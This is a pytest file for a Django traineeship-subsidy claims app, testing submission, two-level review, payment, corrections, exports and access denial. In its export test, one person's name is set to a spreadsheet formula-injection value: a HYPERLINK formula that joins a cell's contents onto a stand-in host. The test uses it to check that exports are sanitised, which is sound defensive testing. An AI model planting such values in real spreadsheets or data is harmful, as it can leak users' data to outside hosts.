"""补贴申领 through HTTP: a unit files a claim for a period (lines from the roster, frozen on submission), the
county and the city approve it on the review pages, the city registers the payment; a month is never in two
counted claims; withdrawal and return free the months; a correction is a new claim; the deny paths.

The placement: 2026-03-01 to 2026-08-31 in 金水区, minimum wage 2100 × 60 % = 1260 元 a month, premium 120 元
(under the 240 元 cap)."""

import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from python_calamine import CalamineWorkbook

from calendars.models import MinimumWage
from claims.models import Claim, ClaimLine, ClaimStatus, LineKind
from reviews.selectors import latest_review_for
from tests.batch.helpers import sheet_xml
from tests.printing.pdftools import pdf_text
from tests.traineeships.claim_helpers import (
    CLAIMS,
    NEW,
    create,
    created,
    decide,
    messages_of,
    number,
    pay,
    post,
)
from tests.traineeships.test_placements import on_post_placement
from tests.traineeships.test_register import member_with
from traineeships.models import MonthlyReport

pytest_plugins = ["tests.traineeships.test_placements"]

MARCH, APRIL, MAY, JUNE = (datetime.date(2026, month, 1) for month in (3, 4, 5, 6))


@pytest.fixture
def placement(application, admin_a, county_reviewer_a, wage):
    return on_post_placement(application, admin_a, county_reviewer_a)


def lines(claim):
    return [(line.kind, line.month, line.amount, line.counted) for line in claim.lines.order_by("position")]


def submitted(client, admin_a, first="2026-03", last="2026-05") -> Claim:
    claim = created(client, admin_a, first, last)
    response = post(client, admin_a, "claim_submit", claim)
    assert response.status_code == 302 and messages_of(response) == ["申领已提交，等待县级人社部门审核"]
    claim.refresh_from_db()
    assert claim.status == ClaimStatus.SUBMITTED
    return claim


def approved(client, admin_a, county, city, first="2026-03", last="2026-05") -> Claim:
    claim = submitted(client, admin_a, first, last)
    assert decide(client, county, claim).status_code == 302
    assert decide(client, city, claim).status_code == 302
    claim.refresh_from_db()
    assert claim.status == ClaimStatus.APPROVED
    return claim


@pytest.mark.django_db
def test_unit_files_county_and_city_approve_city_registers_payment(client, admin_a, placement, county_reviewer_a,
                                                                  city_reviewer):
    client.force_login(admin_a)
    assert client.get(NEW, {"first_month": "2026-03", "last_month": "2026-05"}).status_code == 200
    claim = created(client, admin_a)
    assert claim.number == number(1) and claim.status == ClaimStatus.DRAFT
    assert lines(claim) == [
        (LineKind.MONTH, MARCH, Decimal("1260.00"), False), (LineKind.MONTH, APRIL, Decimal("1260.00"), False),
        (LineKind.MONTH, MAY, Decimal("1260.00"), False), (LineKind.INSURANCE, MARCH, Decimal("120.00"), False)]
    assert claim.total == Decimal("3900.00")
    page = client.get(reverse("traineeships:claim_detail", args=[claim.pk])).content.decode()
    assert 'data-testid="claim-total">3900.00<' in page
    assert "2026年3月：在岗；最低工资 2100 元 × 60% = 1260 元" in page
    assert 'data-testid="person-total">3900.00<' in page

    response = post(client, admin_a, "claim_submit", claim)
    claim.refresh_from_db()
    assert claim.status == ClaimStatus.SUBMITTED and claim.submitted_by == admin_a
    assert all(counted for *_, counted in lines(claim))
    review = latest_review_for(claim)
    assert [step.level for step in review.steps.order_by("position")] == ["county", "city"]
    assert review.title == f"就业见习补贴申领：甲企业有限公司·{number(1)}（2026-03至2026-05，3900.00元）"

    # The review page shows the claim beside the decision and links back to it.
    client.force_login(county_reviewer_a)
    review_page = client.get(reverse("reviews:detail", args=[review.pk])).content.decode()
    assert 'data-testid="materials-claim"' in review_page
    assert reverse("traineeships:claim_detail", args=[claim.pk]) in review_page
    # The city cannot pay before the approval: told so on the form.
    refused = pay(client, city_reviewer, claim)
    assert refused.status_code == 200
    assert "补贴申领当前状态为“审核中”，审核通过后才能登记拨付" in refused.content.decode()

    assert decide(client, county_reviewer_a, claim).status_code == 302
    claim.refresh_from_db()
    assert claim.status == ClaimStatus.SUBMITTED  # the city still has to decide
    assert decide(client, city_reviewer, claim).status_code == 302
    claim.refresh_from_db()
    assert claim.status == ClaimStatus.APPROVED and claim.approved_at is not None

    client.force_login(city_reviewer)
    detail = client.get(reverse("traineeships:claim_detail", args=[claim.pk])).content.decode()
    assert 'data-testid="claim-pay"' in detail
    form = client.get(reverse("traineeships:claim_pay", args=[claim.pk])).content.decode()
    assert f'value="{timezone.localdate():%Y-%m-%d}"' in form  # today, as the date input reads it
    assert pay(client, city_reviewer, claim, voucher="").status_code == 200  # the voucher is required
    response = pay(client, city_reviewer, claim)
    assert response.status_code == 302
    claim.refresh_from_db()
    assert (claim.status, claim.paid_on, claim.voucher_number, claim.paid_by) == (
        ClaimStatus.PAID, timezone.localdate(), "PZ-2026-0815", city_reviewer)
    assert all(counted for *_, counted in lines(claim))
    client.force_login(admin_a)
    detail = client.get(reverse("traineeships:claim_detail", args=[claim.pk])).content.decode()
    assert f'data-testid="claim-paid">{timezone.localdate():%Y-%m-%d}，凭证号 PZ-2026-0815<' in detail
    assert "登记拨付" in detail and "提交申领" in detail
    listing = client.get(CLAIMS, {"status": "paid", "year": "2026"}).content.decode()
    assert f'<tr data-claim="{claim.pk}">' in listing


@pytest.mark.django_db
def test_lines_are_frozen_on_submission(client, admin_a, placement, wage, county_reviewer_a, city_reviewer):
    claim = submitted(client, admin_a)
    MinimumWage.objects.filter(region_id=wage.region_id, valid_from=wage.valid_from).update(monthly=Decimal("2500"))
    before = lines(claim)
    assert decide(client, county_reviewer_a, claim).status_code == 302
    assert decide(client, city_reviewer, claim).status_code == 302
    claim.refresh_from_db()
    assert lines(claim) == before and claim.total == Decimal("3900.00")
    client.force_login(admin_a)
    page = client.get(reverse("traineeships:claim_detail", args=[claim.pk])).content.decode()
    assert "2026年3月：在岗；最低工资 2100 元 × 60% = 1260 元" in page and "2500" not in page


@pytest.mark.django_db
def test_a_month_is_never_in_two_counted_claims(client, admin_a, placement):
    first = created(client, admin_a, "2026-03", "2026-05")
    second = created(client, admin_a, "2026-04", "2026-06")  # both drafts: nothing counted yet
    assert [line.month for line in second.lines.filter(kind=LineKind.MONTH)] == [APRIL, MAY, JUNE]
    post(client, admin_a, "claim_submit", first)
    response = post(client, admin_a, "claim_submit", second)
    assert messages_of(response) == [
        f"王见习 2026年4月的补贴已在申领 {number(1)} 中申领，同一人同一月份只能申领一次；请重新计算本申领"]
    second.refresh_from_db()
    assert second.status == ClaimStatus.DRAFT and not second.lines.filter(counted=True).exists()
    assert latest_review_for(second) is None
    # 重新计算 keeps only what is free: June.
    post(client, admin_a, "claim_refresh", second)
    second.refresh_from_db()
    assert lines(second) == [(LineKind.MONTH, JUNE, Decimal("1260.00"), False)]
    post(client, admin_a, "claim_submit", second)
    second.refresh_from_db()
    assert second.status == ClaimStatus.SUBMITTED and second.total == Decimal("1260.00")
    # A period with nothing left to claim is refused with a message.
    response = create(client, admin_a, "2026-03", "2026-06")
    assert response.status_code == 200
    refusal = "2026年3月至2026年6月没有可申领的补贴：该期间的补贴均已申领，或没有应发补贴的人员"
    assert refusal in response.content.decode()
    assert Claim.objects.count() == 2
    counted = ClaimLine.objects.filter(counted=True, kind=LineKind.MONTH)
    assert sorted(counted.values_list("month", flat=True)) == [MARCH, APRIL, MAY, JUNE]


@pytest.mark.django_db
def test_withdrawal_and_return_free_the_months(client, admin_a, placement, county_reviewer_a):
    claim = submitted(client, admin_a)
    response = post(client, admin_a, "claim_withdraw", claim)
    assert messages_of(response) == ["已撤回申领，可修改后重新提交"]
    claim.refresh_from_db()
    assert claim.status == ClaimStatus.DRAFT and not claim.lines.filter(counted=True).exists()
    other = submitted(client, admin_a, "2026-04", "2026-04")  # April is free again
    assert other.total == Decimal("1260.00")
    # The first claim, submitted again, now holds a month the other claim counted.
    response = post(client, admin_a, "claim_submit", claim)
    assert messages_of(response) == [
        f"王见习 2026年4月的补贴已在申领 {number(2)} 中申领，同一人同一月份只能申领一次；请重新计算本申领"]
    # The county returns the other claim: April is free and the first goes through.
    assert decide(client, county_reviewer_a, other, "return", "请补充上岗证明").status_code == 302
    other.refresh_from_db()
    assert other.status == ClaimStatus.RETURNED and not other.lines.filter(counted=True).exists()
    client.force_login(admin_a)
    page = client.get(reverse("traineeships:claim_detail", args=[other.pk])).content.decode()
    assert ('<div class="alert alert-warning" data-testid="claim-refusal">'
            '退回修改（金水区人力资源和社会保障局）：请补充上岗证明</div>') in page
    post(client, admin_a, "claim_submit", claim)
    claim.refresh_from_db()
    assert claim.status == ClaimStatus.SUBMITTED and claim.total == Decimal("3900.00")
    # A county decision taken: the unit can no longer withdraw.
    assert decide(client, county_reviewer_a, claim).status_code == 302
    response = post(client, admin_a, "claim_withdraw", claim)
    assert messages_of(response) == ["审核部门已作出审核，不能撤回"]
    claim.refresh_from_db()
    assert claim.status == ClaimStatus.SUBMITTED


@pytest.mark.django_db
def test_rejection_frees_the_months_and_is_final(client, admin_a, placement, county_reviewer_a):
    claim = submitted(client, admin_a)
    decide(client, county_reviewer_a, claim, "reject", "材料不实")
    claim.refresh_from_db()
    assert claim.status == ClaimStatus.REJECTED and not claim.lines.filter(counted=True).exists()
    response = post(client, admin_a, "claim_submit", claim)
    assert messages_of(response) == ["补贴申领当前状态为“审核不通过”，不能提交"]
    assert submitted(client, admin_a).total == Decimal("3900.00")


@pytest.mark.django_db
def test_correction_after_payment_is_a_new_claim_with_a_negative_line(client, admin_a, placement, county_reviewer_a,
                                                                      city_reviewer):
    original = approved(client, admin_a, county_reviewer_a, city_reviewer)
    pay(client, city_reviewer, original)
    # Nothing changed: nothing to correct.
    response = post(client, admin_a, "claim_correct", original)
    assert messages_of(response) == ["重新计算的金额与已申领金额一致，无需更正"]
    # The unit now reports April 不在岗: April was paid 1260 too much.
    MonthlyReport.objects.create(placement=placement, month=APRIL, on_post=False, reported_by=admin_a,
                                 reported_at=timezone.now())
    response = post(client, admin_a, "claim_correct", original)
    correction = Claim.objects.get(corrects=original)
    assert response["Location"] == reverse("traineeships:claim_detail", args=[correction.pk])
    april = original.lines.get(kind=LineKind.MONTH, month=APRIL)
    line = correction.lines.get()
    assert (line.kind, line.amount, line.corrects_id, line.month) == (
        LineKind.CORRECTION, Decimal("-1260.00"), april.pk, APRIL)
    assert line.explanation == ("更正2026年4月：重新计算 0.00 元 − 已申领 1260.00 元 = -1260.00 元"
                                "（重新计算：2026年4月：单位上报当月不在岗，不计补贴；0 元）")
    assert correction.total == Decimal("-1260.00") and correction.number == number(2)
    # Only one open correction at a time.
    response = post(client, admin_a, "claim_correct", original)
    assert messages_of(response) == [f"该申领已有办理中的更正申领 {number(2)}，请先办结"]
    # The correction goes the same way; the original is never edited.
    post(client, admin_a, "claim_submit", correction)
    decide(client, county_reviewer_a, correction)
    decide(client, city_reviewer, correction)
    correction.refresh_from_db()
    original.refresh_from_db()
    assert correction.status == ClaimStatus.APPROVED and correction.total == Decimal("-1260.00")
    assert original.status == ClaimStatus.PAID and original.total == Decimal("3900.00")
    assert april.amount == Decimal("1260.00") and original.lines.get(pk=april.pk).amount == Decimal("1260.00")
    # Corrected once: nothing left to correct.
    response = post(client, admin_a, "claim_correct", original)
    assert messages_of(response) == ["重新计算的金额与已申领金额一致，无需更正"]


@pytest.mark.django_db
def test_claim_files_print_and_export(client, admin_a, enterprise_a, placement, county_reviewer_a, tmp_path):
    claim = submitted(client, admin_a)
    person = placement.person
    person.real_name = '=HYPERLINK("http://x"&C5,"张三")'
    person.save(update_fields=["real_name"])
    full, masked = person.id_number, person.id_number[:4] + "*" * 10 + person.id_number[-4:]
    client.force_login(admin_a)
    xlsx = client.get(reverse("traineeships:claim_xlsx", args=[claim.pk]))
    rows = CalamineWorkbook.from_filelike(io.BytesIO(xlsx.content)).get_sheet_by_index(0).to_python()
    assert rows[2] == ["序号", "姓名", "身份证号", "类别", "月份", "金额（元）", "计算说明"]
    # The name was frozen with the line (detail), the ID number read from the person.
    assert rows[3][:6] == [1.0, "王见习", full, "月度补贴", "2026-03", 1260.0]
    assert rows[3][6] == "2026年3月：在岗；最低工资 2100 元 × 60% = 1260 元"
    assert rows[6][3:6] == ["保险补贴", "2026-03", 120.0]
    assert rows[7][4:6] == ["合计", 3900.0]
    assert "<f>" not in sheet_xml(xlsx.content)
    pdf = client.get(reverse("traineeships:claim_pdf", args=[claim.pk]))
    assert pdf["Content-Type"] == "application/pdf"
    text = pdf_text(pdf.content, tmp_path)
    for expected in ("就业见习补贴申领表", number(1), "甲企业有限公司", "3900.00", full, "王见习"):
        assert expected in text, expected
    # A member without view_personal_data reads masked ID numbers in both files.
    keeper = member_with(enterprise_a, "claimkeeper", "traineeships.manage_base")
    client.force_login(keeper)
    rows = CalamineWorkbook.from_filelike(io.BytesIO(
        client.get(reverse("traineeships:claim_xlsx", args=[claim.pk])).content)).get_sheet_by_index(0).to_python()
    assert rows[3][2] == masked
    text = pdf_text(client.get(reverse("traineeships:claim_pdf", args=[claim.pk])).content, tmp_path)
    assert masked in text and full not in text


@pytest.mark.django_db
def test_hr_lists_the_claims_of_its_jurisdiction(client, admin_a, placement, county_reviewer_a, county_reviewer_b,
                                                 city_reviewer):
    draft = created(client, admin_a, "2026-06", "2026-06")
    claim = submitted(client, admin_a)
    for reviewer in (county_reviewer_a, city_reviewer):
        client.force_login(reviewer)
        page = client.get(CLAIMS).content.decode()
        assert f'<tr data-claim="{claim.pk}">' in page and f'<tr data-claim="{draft.pk}">' not in page
        assert "甲企业有限公司" in page
        assert client.get(reverse("traineeships:claim_detail", args=[draft.pk])).status_code == 404
    client.force_login(county_reviewer_b)
    assert f'data-claim="{claim.pk}"' not in client.get(CLAIMS).content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize("query, message", [
    ({"year": "²"}, "年度应为四位数字，如 2026"),
    ({"year": "0"}, "年度应在 2000 至 2100 之间"),
    ({"status": "bogus"}, "请选择列表中的状态"),
])
def test_malformed_list_filters_answer_a_message_and_list_nothing(client, admin_a, placement, query, message):
    claim = created(client, admin_a)
    client.force_login(admin_a)
    assert [item.pk for item in client.get(CLAIMS).context["object_list"]] == [claim.pk]
    response = client.get(CLAIMS, query)
    assert response.status_code == 200 and message in response.content.decode()
    # Not the unit's claims less filtered than asked: nothing.
    assert list(response.context["object_list"]) == []
    assert response.context["form"].errors == {next(iter(query)): [message]}


@pytest.mark.django_db
@pytest.mark.parametrize("data, message", [
    ({"first_month": "0000-01", "last_month": "2026-05"}, "月份格式应为 2026-03"),
    ({"first_month": "2026-05", "last_month": "2026-03"}, "截止月份不能早于起始月份"),
    ({"first_month": "", "last_month": "2026-03"}, "请填写月份"),
])
def test_malformed_periods_answer_a_message(client, admin_a, placement, data, message):
    client.force_login(admin_a)
    response = client.post(NEW, data)
    assert response.status_code == 200 and message in response.content.decode()
    assert client.get(NEW, data).status_code == 200  # the roster's link with a bad period: an empty form
    assert not Claim.objects.exists()


@pytest.mark.django_db
def test_a_period_reaching_past_this_month_is_refused_next_to_its_field(client, admin_a, placement):
    this_month = timezone.localdate().replace(day=1)
    next_month = (this_month + datetime.timedelta(days=31)).replace(day=1)
    client.force_login(admin_a)
    response = client.post(NEW, {"first_month": f"{this_month:%Y-%m}", "last_month": f"{next_month:%Y-%m}"})
    assert response.status_code == 200
    assert (f'data-field-error="last_month">截止月份不能晚于本月（{this_month:%Y年%m月}）：尚未到来的月份不能申领补贴'
            in response.content.decode())
    assert not Claim.objects.exists()
    assert f'name="last_month" class="form-control" max="{this_month:%Y-%m}"' in client.get(NEW).content.decode()


# ---------------------------------------------------------------- deny paths


@pytest.mark.django_db
def test_other_unit_other_county_and_education_see_nothing(client, admin_a, admin_b, placement, county_reviewer_b,
                                                           education_reviewer, industry_reviewer):
    claim = submitted(client, admin_a)
    for user in (admin_b, county_reviewer_b, education_reviewer, industry_reviewer):
        client.force_login(user)
        for name in ("claim_detail", "claim_pdf", "claim_xlsx"):
            assert client.get(reverse(f"traineeships:{name}", args=[claim.pk])).status_code == 404, (user, name)
        assert client.post(reverse("traineeships:claim_pay", args=[claim.pk])).status_code == 404
    client.force_login(admin_b)
    for name in ("claim_submit", "claim_withdraw", "claim_refresh", "claim_correct", "claim_delete"):
        assert post(client, admin_b, name, claim).status_code == 404
    client.force_login(education_reviewer)
    assert client.get(CLAIMS).status_code == 403
    claim.refresh_from_db()
    assert claim.status == ClaimStatus.SUBMITTED


@pytest.mark.django_db
def test_sub_admin_without_manage_base_and_county_cannot_act(client, admin_a, placement, staff_manager_a,
                                                             county_reviewer_a, city_reviewer):
    claim = created(client, admin_a)
    for name in ("claim_submit", "claim_refresh", "claim_delete"):
        assert post(client, staff_manager_a, name, claim).status_code == 403
    client.force_login(staff_manager_a)
    assert client.get(CLAIMS).status_code == 403 and client.get(NEW).status_code == 403
    assert client.get(reverse("traineeships:claim_detail", args=[claim.pk])).status_code == 404
    claim = approved(client, admin_a, county_reviewer_a, city_reviewer, "2026-06", "2026-06")
    # Only the city registers the payment; neither the county nor the unit.
    assert pay(client, county_reviewer_a, claim).status_code == 403
    assert pay(client, admin_a, claim).status_code == 403
    claim.refresh_from_db()
    assert claim.status == ClaimStatus.APPROVED
    # County reviewers decide on the review pages, they do not submit.
    assert post(client, county_reviewer_a, "claim_submit", claim).status_code == 403


@pytest.mark.django_db
def test_wrong_states(client, admin_a, placement, county_reviewer_a, city_reviewer):
    claim = submitted(client, admin_a)
    assert messages_of(post(client, admin_a, "claim_submit", claim)) == ["补贴申领当前状态为“审核中”，不能提交"]
    assert messages_of(post(client, admin_a, "claim_refresh", claim)) == ["补贴申领当前状态为“审核中”，不能重新计算"]
    assert messages_of(post(client, admin_a, "claim_delete", claim)) == ["只能删除从未提交的申领草稿"]
    assert messages_of(post(client, admin_a, "claim_correct", claim)) == [
        "补贴申领当前状态为“审核中”，审核通过后才能更正"]
    decide(client, county_reviewer_a, claim)
    decide(client, city_reviewer, claim)
    pay(client, city_reviewer, claim)
    response = pay(client, city_reviewer, claim, voucher="PZ-2")
    assert "补贴申领当前状态为“已拨付”，审核通过后才能登记拨付" in response.content.decode()
    claim.refresh_from_db()
    assert claim.voucher_number == "PZ-2026-0815"
    assert messages_of(post(client, admin_a, "claim_withdraw", claim)) == ["补贴申领当前状态为“已拨付”，不能撤回"]


@pytest.mark.django_db
def test_a_draft_never_submitted_can_be_deleted(client, admin_a, placement):
    claim = created(client, admin_a)
    response = post(client, admin_a, "claim_delete", claim)
    assert response["Location"] == CLAIMS and not Claim.objects.exists()
    assert not ClaimLine.objects.exists()


@pytest.mark.django_db
def test_roster_links_to_a_new_claim_and_shows_what_is_claimed(client, admin_a, placement, county_reviewer_a):
    claim = submitted(client, admin_a, "2026-03", "2026-04")
    client.force_login(admin_a)
    page = client.get(reverse("traineeships:roster"), {"first_month": "2026-03", "last_month": "2026-06"})
    html = page.content.decode()
    link = f'{NEW}?first_month=2026-03&amp;last_month=2026-06'
    assert f'href="{link}"' in html
    n = claim.number
    assert (f'<div class="text-success" data-testid="claimed">已申领：2026年3月（{n}）、保险补贴（{n}）、'
            f'2026年4月（{n}）</div>') in html
    form = client.get(NEW, {"first_month": "2026-03", "last_month": "2026-06"}).content.decode()
    assert 'value="2026-03"' in form and 'value="2026-06"' in form
    # HR reads the roster of a base, without the unit's 新建申领.
    client.force_login(county_reviewer_a)
    html = client.get(reverse("traineeships:roster"), {"first_month": "2026-03", "last_month": "2026-06",
                                                       "base": placement.base_id}).content.decode()
    assert 'data-testid="roster-claim"' not in html and 'data-testid="claimed"' in html
